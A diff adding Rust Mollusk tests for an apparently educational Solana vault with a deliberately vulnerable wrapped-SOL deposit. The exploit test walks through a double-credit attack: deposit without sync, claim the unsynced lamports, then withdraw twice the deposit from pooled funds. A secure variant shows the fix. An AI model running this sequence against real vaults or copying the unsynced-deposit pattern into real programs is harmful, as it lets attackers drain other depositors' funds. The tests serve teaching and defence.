@@ -0,0 +1,420 @@
+/// # Pattern 30: Wrapped SOL sync_native — Mollusk Exploit Tests
+///
+/// The vault's native token account holds 10 wSOL that belongs to other
+/// depositors, fully synced. The attacker has SOL in their wallet, an empty
+/// wSOL account of their own, and an empty position.
+///
+/// - Test 1: EXPLOIT — deposit_vulnerable(1 SOL) credits 1 and leaves the
+///   lamports unsynced. claim syncs them and credits the same 1 SOL again,
+///   and the attacker withdraws 2 wSOL.
+/// - Test 2: SECURE — deposit_secure(1 SOL) syncs and credits what the
+///   token account gained. claim finds nothing, and withdrawing 2 fails.
+/// - Test 3: SANITY — SOL sent straight to the vault's token account is
+///   credited once by claim.
+///
+/// The program must be built into SBF_OUT_DIR next to `spl_token.so`.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("DwiyRtrs6rzwhy8aAGSuZmXThN8YtXQyF4PM9DqVGwnj");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+const NATIVE_MINT: Pubkey = solana_sdk::pubkey!("So11111111111111111111111111111111111111112");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+/// Also the rent-exempt reserve every native token account keeps back.
+const TOKEN_RENT: u64 = 2_039_280;
+const WALLET: u64 = 10 * SOL;
+
+/// wSOL in the vault that belongs to other depositors.
+const POOLED: u64 = 10 * SOL;
+/// The attacker's deposit.
+const DEPOSIT: u64 = SOL;
+
+// Error codes
+const INSUFFICIENT_BALANCE: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account:
+///   [8 disc][32 vault_token][1 bump]
+fn serialize_vault(vault_token: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(41);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(vault_token.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 vault][32 owner][8 deposited][1 bump]
+fn serialize_position(vault: &Pubkey, owner: &Pubkey, deposited: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(vault.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&deposited.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a native (wrapped SOL) SPL Token account (165 bytes):
+///   [32 mint][32 owner][8 amount][36 delegate][1 state][12 is_native]
+///   [8 delegated_amount][36 close_authority]
+fn serialize_wsol_account(owner: &Pubkey, amount: u64) -> Vec<u8> {
+    let mut data = Vec::with_capacity(165);
+    data.extend_from_slice(NATIVE_MINT.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.extend_from_slice(&[0u8; 36]); // delegate: None
+    data.push(1); // state: Initialized
+    data.extend_from_slice(&[1, 0, 0, 0]); // is_native: Some(rent reserve)
+    data.extend_from_slice(&TOKEN_RENT.to_le_bytes());
+    data.extend_from_slice(&0u64.to_le_bytes()); // delegated_amount
+    data.extend_from_slice(&[0u8; 36]); // close_authority: None
+    data
+}
+
+/// A native token account holding `lamports` on top of its reserve, with
+/// `synced` of them reflected in its token amount.
+fn wsol_account(owner: &Pubkey, lamports: u64, synced: u64) -> AccountSharedData {
+    owned_account(
+        &serialize_wsol_account(owner, synced),
+        TOKEN_RENT + lamports,
+        &TOKEN_PROGRAM_ID,
+    )
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+/// System program Transfer of `lamports` from `from`, which signs.
+fn system_transfer(from: &Pubkey, to: &Pubkey, lamports: u64) -> Instruction {
+    let mut data = 2u32.to_le_bytes().to_vec(); // SystemInstruction::Transfer
+    data.extend_from_slice(&lamports.to_le_bytes());
+    Instruction::new_with_bytes(
+        solana_sdk::system_program::ID,
+        &data,
+        vec![AccountMeta::new(*from, true), AccountMeta::new(*to, false)],
+    )
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "wsol_sync_native");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+struct Setup {
+    vault: Pubkey,
+    vault_token: Pubkey,
+    attacker: Pubkey,
+    attacker_token: Pubkey,
+    position: Pubkey,
+    position_bump: u8,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let vault_token = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let attacker_token = Pubkey::new_unique();
+        let (vault, vault_bump) = Pubkey::find_program_address(&[b"vault"], &PROGRAM_ID);
+        let (position, position_bump) = Pubkey::find_program_address(
+            &[b"position", vault.as_ref(), attacker.as_ref()],
+            &PROGRAM_ID,
+        );
+
+        let ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(&vault_token, vault_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (vault_token, wsol_account(&vault, POOLED, POOLED)),
+            (attacker, system_account()),
+            (attacker_token, wsol_account(&attacker, 0, 0)),
+            (
+                position,
+                owned_account(
+                    &serialize_position(&vault, &attacker, 0, position_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            vault,
+            vault_token,
+            attacker,
+            attacker_token,
+            position,
+            position_bump,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// deposit_vulnerable / deposit_secure, signed by the attacker.
+    fn deposit(&self, name: &str, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(self.vault_token, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn claim(&self) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator("claim"),
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(self.vault_token, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new_readonly(self.attacker, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn withdraw(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("withdraw").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.vault, false),
+                AccountMeta::new(self.vault_token, false),
+                AccountMeta::new(self.attacker_token, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new_readonly(self.attacker, true),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+            ],
+        )
+    }
+
+    fn position_data(&self, deposited: u64) -> Vec<u8> {
+        serialize_position(&self.vault, &self.attacker, deposited, self.position_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_deposit_counted_again_by_sync_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   1. Attacker: deposit_vulnerable(1 SOL)
+    //   2. Attacker: claim
+    //   3. Attacker: withdraw(2 wSOL)
+    //
+    // Expected: all SUCCEED. The deposit credits 1 and leaves the vault's
+    //           amount at 10 over 11 SOL of lamports. The claim syncs it to
+    //           11 and credits the attacker again. The withdrawal pays the
+    //           attacker 2 wSOL, and the vault has 9 left for depositors it
+    //           owes 10.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, vault_token, attacker, attacker_token, position) = (
+        s.vault,
+        s.vault_token,
+        s.attacker,
+        s.attacker_token,
+        s.position,
+    );
+
+    let ix = s.deposit("deposit_vulnerable", DEPOSIT);
+    let unsynced = serialize_wsol_account(&vault, POOLED);
+    let credited = s.position_data(DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token)
+                .lamports(TOKEN_RENT + POOLED + DEPOSIT)
+                .data(&unsynced)
+                .build(),
+            Check::account(&position).data(&credited).build(),
+        ],
+    );
+
+    let ix = s.claim();
+    let synced = serialize_wsol_account(&vault, POOLED + DEPOSIT);
+    let doubled = s.position_data(2 * DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&synced).build(),
+            Check::account(&position).data(&doubled).build(),
+        ],
+    );
+
+    let ix = s.withdraw(2 * DEPOSIT);
+    let short = serialize_wsol_account(&vault, POOLED - DEPOSIT);
+    let paid = serialize_wsol_account(&attacker, 2 * DEPOSIT);
+    let emptied = s.position_data(0);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token)
+                .lamports(TOKEN_RENT + POOLED - DEPOSIT)
+                .data(&short)
+                .build(),
+            Check::account(&attacker_token)
+                .lamports(TOKEN_RENT + 2 * DEPOSIT)
+                .data(&paid)
+                .build(),
+            Check::account(&position).data(&emptied).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_deposit_credits_synced_delta() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   1. Attacker: deposit_secure(1 SOL)
+    //   2. Attacker: claim
+    //   3. Attacker: withdraw(2 wSOL), then withdraw(1 wSOL)
+    //
+    // Expected: the deposit SUCCEEDS, syncs the vault to 11 and credits 1.
+    //           The claim SUCCEEDS and credits nothing. Withdrawing 2 FAILS
+    //           with InsufficientBalance (6001); withdrawing 1 SUCCEEDS and
+    //           leaves the other depositors' 10.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, vault_token, position) = (s.vault, s.vault_token, s.position);
+
+    let ix = s.deposit("deposit_secure", DEPOSIT);
+    let synced = serialize_wsol_account(&vault, POOLED + DEPOSIT);
+    let credited = s.position_data(DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token)
+                .lamports(TOKEN_RENT + POOLED + DEPOSIT)
+                .data(&synced)
+                .build(),
+            Check::account(&position).data(&credited).build(),
+        ],
+    );
+
+    let ix = s.claim();
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&credited).build(),
+        ],
+    );
+
+    let ix = s.withdraw(2 * DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INSUFFICIENT_BALANCE))],
+    );
+
+    let ix = s.withdraw(DEPOSIT);
+    let pooled = serialize_wsol_account(&vault, POOLED);
+    let emptied = s.position_data(0);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&pooled).build(),
+            Check::account(&position).data(&emptied).build(),
+        ],
+    );
+}
+
+#[test]
+fn sanity_direct_transfer_claimed_once() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. Attacker: system transfer of 1 SOL to the vault's token account
+    //   2. Attacker: claim, twice
+    //
+    // Expected: all SUCCEED. The first claim syncs the vault to 11 and
+    //           credits 1; the second credits nothing.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, vault_token, position) = (s.vault, s.vault_token, s.position);
+
+    let ix = system_transfer(&s.attacker, &s.vault_token, DEPOSIT);
+    s.ledger.step(&mollusk, &ix, &[Check::success()]);
+
+    let ix = s.claim();
+    let synced = serialize_wsol_account(&vault, POOLED + DEPOSIT);
+    let credited = s.position_data(DEPOSIT);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&vault_token).data(&synced).build(),
+            Check::account(&position).data(&credited).build(),
+        ],
+    );
+
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&position).data(&credited).build(),
+        ],
+    );
+}